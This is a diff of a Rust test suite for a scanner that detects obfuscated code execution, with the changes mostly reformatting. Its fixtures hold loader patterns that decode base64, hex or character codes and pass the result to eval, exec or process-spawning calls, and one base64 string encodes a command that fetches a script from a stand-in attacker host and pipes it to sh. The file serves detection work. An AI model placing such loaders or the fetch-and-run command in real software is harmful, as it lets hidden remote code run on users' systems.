@@ -48,10 +48,7 @@ fn decoded_in_the_call() {
         "lib/x.rb",
         "require 'base64'\neval(Base64.decode64(\"cHV0cyAnaGVsbG8n\"))\n",
     );
-    critical(
-        "lib/x.rb",
-        "instance_eval(Base64.strict_decode64(payload))\n",
-    );
+    critical("lib/x.rb", "instance_eval(Base64.strict_decode64(payload))\n");
     critical("lib/x.rb", "Kernel.eval(Base64.urlsafe_decode64(s))\n");
     critical("x.php", "<?php @eval(gzinflate(base64_decode($p))); ?>");
     critical("x.php", "<?php eval(str_rot13($s)); ?>");
@@ -95,7 +92,10 @@ fn decoded_in_the_call() {
         "require('child_process').execSync(Buffer.from(c, 'hex').toString());\n",
     );
     critical("index.js", "const f = new Function(atob(p));\nf();\n");
-    critical("setup.py", "import subprocess, base64\nsubprocess.Popen([\"python\", \"-c\", base64.b64decode(\"YmFy\")])\n");
+    critical(
+        "setup.py",
+        "import subprocess, base64\nsubprocess.Popen([\"python\", \"-c\", base64.b64decode(\"YmFy\")])\n",
+    );
     critical("setup.py", "os.system(base64.b64decode(\"bHM=\"))\n");
 }
 
@@ -103,22 +103,10 @@ fn decoded_in_the_call() {
 fn decoded_in_the_call_near_misses() {
     clean("setup.py", "exec(open(\"pkg/version.py\").read())\n");
     clean("setup.py", "with open(p) as f:\n    exec(f.read(), ns)\n");
-    clean(
-        "x.rb",
-        "eval(\"puts 'hello'\")\ninstance_eval(\"@foo = 1\")\n",
-    );
-    clean(
-        "index.js",
-        "const m = re.exec(s);\nconst r = regex.exec(atob(s));\n",
-    );
-    clean(
-        "index.js",
-        "setTimeout(() => { const x = atob(s); show(x); }, 100);\n",
-    );
-    clean(
-        "index.js",
-        "setTimeout(function () { render(atob(s)); }, 100);\n",
-    );
+    clean("x.rb", "eval(\"puts 'hello'\")\ninstance_eval(\"@foo = 1\")\n");
+    clean("index.js", "const m = re.exec(s);\nconst r = regex.exec(atob(s));\n");
+    clean("index.js", "setTimeout(() => { const x = atob(s); show(x); }, 100);\n");
+    clean("index.js", "setTimeout(function () { render(atob(s)); }, 100);\n");
     clean(
         "index.js",
         "spawn('node', ['build.js', Buffer.from(a, 'base64').toString()]);\n",
@@ -137,14 +125,16 @@ fn decoded_in_the_call_near_misses() {
 fn the_window_ends_at_the_call() {
     let benign = "function run(x) {\n  return eval(x);\n}\nfunction img(d) { return atob(d); }\n";
     clean("lib/expr.js", benign);
-    let benign_py =
-        "def calc(expr):\n    return eval(expr)\n\ndef image(d):\n    return base64.b64decode(d)\n";
+    let benign_py = "def calc(expr):\n    return eval(expr)\n\ndef image(d):\n    return base64.b64decode(d)\n";
     clean("lib/calc.py", benign_py);
 }
 
 #[test]
 fn decoded_then_run() {
-    critical("setup.py", "import base64\nmyBase64Code = \"YmFy\"\nmyDecodedCode = base64.b64decode(myBase64Code)\nexec(myDecodedCode)\n");
+    critical(
+        "setup.py",
+        "import base64\nmyBase64Code = \"YmFy\"\nmyDecodedCode = base64.b64decode(myBase64Code)\nexec(myDecodedCode)\n",
+    );
     critical("pkg/loader.py", "import base64\n\ndef load(x):\n    d = base64.b64decode(x)\n    s = d.decode('utf-8')\n    if s:\n        exec(s)\n");
     critical(
         "index.js",
@@ -152,10 +142,7 @@ fn decoded_then_run() {
     );
     critical("pkg/run.py", "from cryptography.fernet import Fernet\n\ndef run(key, blob):\n    payload = Fernet(key).decrypt(blob)\n    exec(payload)\n");
     critical("index.js", "import fetch from 'node-fetch'\nfunction f() {\n  const admin = '0a636f6e7374';\n  const adminResult = Buffer.from(admin, 'hex').toString('utf8');\n  const func = new Function(adminResult);\n  func(adminResult);\n}\n");
-    critical(
-        "lib/x.rb",
-        "code = Base64.decode64(\"cHV0cyAnaGVsbG8n\")\neval(code)\n",
-    );
+    critical("lib/x.rb", "code = Base64.decode64(\"cHV0cyAnaGVsbG8n\")\neval(code)\n");
     critical(
         "x.php",
         "<?php\nfunction boot() {\n  $c = base64_decode($GLOBALS['p']);\n  eval($c);\n}\n",
@@ -165,7 +152,10 @@ fn decoded_then_run() {
         "index.js",
         "function dec(s) { return atob(s); }\nfunction main() { eval(dec(P)); }\n",
     );
-    critical("index.js", "const k = s => s.split('').map(c => String.fromCharCode(c.charCodeAt() - 1)).join('');\neval(k(x));\n");
+    critical(
+        "index.js",
+        "const k = s => s.split('').map(c => String.fromCharCode(c.charCodeAt() - 1)).join('');\neval(k(x));\n",
+    );
     // exec fetched from builtins under an encoded name.
     critical("pkg/__init__.py", "def f():\n    cc = getattr(builtins, b\"\\x85\\xa5\\x81\\x93\".decode(\"cp1026\"))\n    cc(b\"\\x85\\xa7\\x85\\x83M\\xfc\\x89\\x94\".decode(\"cp1026\"))\n");
 }
@@ -198,19 +188,13 @@ fn decoded_then_run_near_misses() {
     );
     clean("lib/p.js", &big);
     // Bundles keep today's protection: no cross-statement analysis.
-    let bundle = format!(
-        "!function(){{var c=atob(p);{}eval(c)}}();\n",
-        "var q=1;".repeat(8000)
-    );
+    let bundle = format!("!function(){{var c=atob(p);{}eval(c)}}();\n", "var q=1;".repeat(8000));
     clean("dist/app.bundle.js", &bundle);
 }
 
 #[test]
 fn hidden_names_and_chains() {
-    high(
-        "pkg/x.py",
-        "import builtins\ncc = getattr(builtins, 'exec')\n",
-    );
+    high("pkg/x.py", "import builtins\ncc = getattr(builtins, 'exec')\n");
     high("pkg/x.py", "f = __builtins__.__dict__['eval']\n");
     high(
         "pkg/x.py",
@@ -232,17 +216,23 @@ fn hidden_names_and_chains() {
         "index.js",
         "host = os[String.fromCharCode(0x68, 0x6f, 0x73, 0x74, 0x6e, 0x61, 0x6d, 0x65)]();\n",
     );
-    high("index.js", "host = os[\"\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65\"]();\nrun(\"\\x65\\x76\\x61\\x6c\");\n");
+    high(
+        "index.js",
+        "host = os[\"\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65\"]();\nrun(\"\\x65\\x76\\x61\\x6c\");\n",
+    );
     high(
         "index.js",
         "const n = String.fromCharCode(...[101, 118, 97, 108, 40, 120, 41, 59]);\n",
     );
-    high("index.js", "for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16));\n");
-    high("index.js", "for (var j = 0; j < d.length; j++) o += String.fromCharCode(d.charCodeAt(j) ^ k.charCodeAt(j % k.length));\n");
     high(
-        "pkg/x.py",
-        "name = chr(101) + chr(118) + chr(97) + chr(108)\n",
+        "index.js",
+        "for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16));\n",
     );
+    high(
+        "index.js",
+        "for (var j = 0; j < d.length; j++) o += String.fromCharCode(d.charCodeAt(j) ^ k.charCodeAt(j % k.length));\n",
+    );
+    high("pkg/x.py", "name = chr(101) + chr(118) + chr(97) + chr(108)\n");
     high(
         "pkg/x.py",
         "s = ''.join(chr(c - 3) for c in [104, 117, 100, 111, 107, 98, 104, 105, 100])\n",
@@ -273,10 +263,7 @@ fn hidden_names_near_misses() {
         "pkg/x.py",
         "letters = [chr(ord('a') + i) for i in range(26)]\nsep = chr(10)\n",
     );
-    clean(
-        "pkg/enc.py",
-        "s = b'\\x72\\x65\\x61\\x64\\x79'.decode('cp1252')\n",
-    );
+    clean("pkg/enc.py", "s = b'\\x72\\x65\\x61\\x64\\x79'.decode('cp1252')\n");
     clean(
         "pkg/bytes.py",
         "MAGIC = b\"\\x89PNG\\r\\n\\x1a\\n\"\nHDR = b\"\\x65\\x76\\x00\\x01\"\n",
@@ -321,10 +308,7 @@ fn blobs_are_data_unless_base64() {
         "tests/fixtures/payload.py",
         &format!("P = \"{}\"\n", base64_noise(1500)),
     );
-    clean(
-        "pkg/_tests/data.py",
-        &format!("P = \"{}\"\n", base64_noise(1500)),
-    );
+    clean("pkg/_tests/data.py", &format!("P = \"{}\"\n", base64_noise(1500)));
 }
 
 #[test]
@@ -357,13 +341,10 @@ fn obfuscator_string_array_hiding_a_loader() {
         "{f:?}"
     );
     // The same packing over UI strings: obfuscated, not a loader.
-    let ui = init.replace("Y2hpbGRfcHJvY2Vzcw==", "SGVsbG8=").replace(
-        "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=",
-        "V29ybGQ=",
-    );
-    assert!(scan("lib/ui.js", &ui)
-        .iter()
-        .all(|f| f.severity < Severity::Critical));
+    let ui = init
+        .replace("Y2hpbGRfcHJvY2Vzcw==", "SGVsbG8=")
+        .replace("Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=", "V29ybGQ=");
+    assert!(scan("lib/ui.js", &ui).iter().all(|f| f.severity < Severity::Critical));
 }
 
 #[test]
@@ -372,9 +353,7 @@ fn minified_char_code_loops_are_not_hiding() {
     let chain = "var s=String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100);";
     assert!(scan("graphiql/graphiql.min.js", chain).is_empty());
     // The same chain in a source file is still a hiding technique.
-    assert!(scan("src/index.js", chain)
-        .iter()
-        .any(|f| f.severity == Severity::High));
+    assert!(scan("src/index.js", chain).iter().any(|f| f.severity == Severity::High));
     // A decoded payload that runs is critical in a minified file too.
     let run = "eval(String.fromCharCode(97,108,101,114,116,40,49,41));";
     assert!(scan("dist/app.min.js", run)
